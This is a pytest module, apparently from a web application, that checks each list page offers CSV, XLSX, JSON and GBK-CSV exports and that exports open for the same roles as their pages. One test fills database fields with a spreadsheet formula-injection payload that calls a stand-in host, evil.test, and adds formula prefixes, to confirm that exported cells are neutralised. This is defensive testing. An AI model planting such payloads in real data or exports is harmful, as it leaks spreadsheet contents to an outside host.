"""Every page that draws a list gives it out as a file, or says here why it does not."""

import csv
import re
from pathlib import Path

import httpx
import pytest
import pytest_asyncio

from match.foundation.db import rows
from match.people.commands.sessions import open_session
from match.people.door import SESSION_COOKIE
from match.people.visit import Visit
from tests.architecture.scene import Scene
from tests.exports.reading import dangerous, formulas, of_csv, of_json, of_xlsx

pytestmark = pytest.mark.openness

HOUSE = Path(__file__).parents[2]
LISTS = Path(__file__).with_name("lists.csv")
# What draws a list: an empty state, pages, a table, cards, an entry for each of many.
DRAWS = re.compile(
    r"ui\.(?:empty|pagination|table|comparison|line_list)\(|<table|class=\"cards\""
    r"|extends \"(?:site/browse|admin/queue)\.html\""
    r"|\{% for[^%]*%\}\s*<(?:li|article) class=\"card"
)
OFFERS = re.compile(r"ui\.exports\(|extends \"(?:site/browse|admin/queue)\.html\"")
WHY = {"one", "part", "portal", "form", "file", "behind", "personal", "child", "frame"}
FOLDERS = ("src/match/*/templates", "admin/templates")


def listed() -> list[dict[str, str]]:
    with LISTS.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def draws_a_list() -> dict[str, str]:
    """Templates that draw a list, with their text."""
    found: dict[str, str] = {}
    for folder in FOLDERS:
        for path in sorted(HOUSE.glob(f"{folder}/**/*.html")):
            text = path.read_text(encoding="utf-8")
            if DRAWS.search(text):
                found[str(path.relative_to(HOUSE))] = text
    return found


def test_every_list_page_is_known_and_offers_its_file() -> None:
    known = {one["template"]: one for one in listed()}
    drawn = draws_a_list()

    assert sorted(set(drawn) - set(known)) == [], "list pages missing in tests/exports/lists.csv"
    assert sorted(set(known) - set(drawn)) == [], "lines of lists.csv whose page draws no list"
    assert [
        name for name, one in known.items() if not one["exempt"] and not OFFERS.search(drawn[name])
    ] == [], "pages without {{ ui.exports(with_query) }}"
    assert {one["exempt"].partition(":")[0] for one in known.values()} - WHY == {""}


def test_a_new_list_page_without_a_file_is_noticed() -> None:
    """The twin: three pages as somebody might write them tomorrow."""
    for text in (
        "{% if rows %}<table><tr><td>{{ row }}</td></tr></table>{% endif %}",
        '<ul>{% for one in many %}\n  <li class="card pad">{{ one }}</li>{% endfor %}</ul>',
        '{{ ui.pagination("", more) }}',
    ):
        assert DRAWS.search(text)
        assert not OFFERS.search(text)


@pytest_asyncio.fixture
async def scene(db: None, hunan: None) -> Scene:
    scene = Scene()
    await scene.set_up()
    return scene


def _address(scene: Scene, path: str, kind: str = "") -> str:
    template, _mark, query = path.partition("?")
    concrete = scene.paths.get(template, template)
    asked = "&".join(part for part in (query, f"format={kind}" if kind else "") if part)
    return f"{concrete}?{asked}" if asked else concrete


async def _signed_in(client: httpx.AsyncClient, scene: Scene, role: str) -> None:
    person = scene.people[(role, "own")]
    client.cookies.delete(SESSION_COOKIE)
    if person is not None and person.id is not None:
        token = await open_session(person.id, Visit("127.0.0.1", "pytest"), level=2)
        client.cookies.set(SESSION_COOKIE, token, domain="xth.test")


HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"点我")'


async def _poison() -> None:
    """Strangers' words at the places where most lists show them."""
    for statement in (
        "UPDATE organisation SET name = left($1 || id::text, 80)",
        "UPDATE home SET name = left($1 || id::text, 60)",
        "UPDATE need SET title = left($1, 60)",
        "UPDATE offer SET title = left('@SUM(1)' || $1, 60)",
        "UPDATE shift SET title = left('+' || $1, 60)",
        "UPDATE account SET name = left('-' || $1, 40)",
    ):
        await rows(statement, HOSTILE)


async def test_every_list_comes_as_every_kind_of_file_and_no_cell_is_a_formula(
    client: httpx.AsyncClient, scene: Scene
) -> None:
    await _poison()
    wrong: list[str] = []
    filled = poisoned = 0
    for one in listed():
        if one["exempt"]:
            continue
        await _signed_in(client, scene, one["role"])
        told = f"{one['path']} as {one['role']}"
        sent = {
            kind: await client.get(_address(scene, one["path"], kind))
            for kind in ("csv", "xlsx", "json", "csv-gbk")
        }
        if any(
            answer.status_code != 200
            or not answer.headers["content-disposition"].startswith("attachment")
            for answer in sent.values()
        ):
            wrong.append(f"{told}: {[answer.status_code for answer in sent.values()]}")
            continue
        table = of_csv(sent["csv"].content)
        again = of_csv(sent["csv-gbk"].content, "gb18030")
        book, named = of_xlsx(sent["xlsx"].content), of_json(sent["json"].content)
        cells = [cell for row in (*table, *book, *again) for cell in row]
        filled += len(table) > 1
        poisoned += any("HYPERLINK" in cell for cell in cells)
        # Taking the trail along is itself a line of it.
        lengths = {len(table), len(book), len(again), len(named) + 1}
        if len(lengths) > 1 and one["path"] != "/admin/audit":
            wrong.append(f"{told}: the kinds of file differ in their rows")
        if dangerous(cells) or formulas(sent["xlsx"].content):
            wrong.append(f"{told}: {dangerous(cells)[:3]} {formulas(sent['xlsx'].content)[:3]}")

    assert wrong == []
    assert filled > 30, "too few lists held anything: the scene proves little"
    assert poisoned > 12, "too few lists showed the strangers' words"


async def test_a_list_and_its_file_open_for_the_same_people(
    client: httpx.AsyncClient, scene: Scene
) -> None:
    wrong: list[str] = []
    for role in ("anonymous", "director", "manager", "auditor"):
        await _signed_in(client, scene, role)
        for one in listed():
            if one["exempt"] or scene.paths.get(one["path"], one["path"]).count("{"):
                continue
            page = await client.get(_address(scene, one["path"]))
            file = await client.get(_address(scene, one["path"], "csv"))
            if page.status_code != file.status_code:
                wrong.append(f"{one['path']} {role}: {page.status_code}, {file.status_code}")

    assert wrong == []
